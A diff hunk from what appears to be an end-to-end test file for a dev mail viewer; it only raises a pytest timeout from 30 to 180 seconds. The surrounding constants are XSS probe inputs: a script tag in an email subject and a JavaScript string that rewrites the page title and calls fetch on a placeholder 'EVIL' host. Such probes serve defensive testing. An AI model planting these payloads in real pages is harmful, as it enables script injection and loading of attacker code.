@@ -11,7 +11,7 @@ from tests.cli.command import Up
 from tests.e2e.browsers import Windows
 from tests.e2e.strangers import Stranger
 
-pytestmark = [pytest.mark.slow, pytest.mark.timeout(30)]  # tests/http/test_dev_mail.py judges the same pages
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(180)]  # tests/http/test_dev_mail.py judges the same pages
 SUBJECT = "<script>document.title = 'broken'</script>"
 NAME = "20260102T030405000000Z-hostile"
 RUN = "(parent.document || document).title = 'broken'; document.body.dataset.broken = 'yes'; fetch('EVIL/script')"
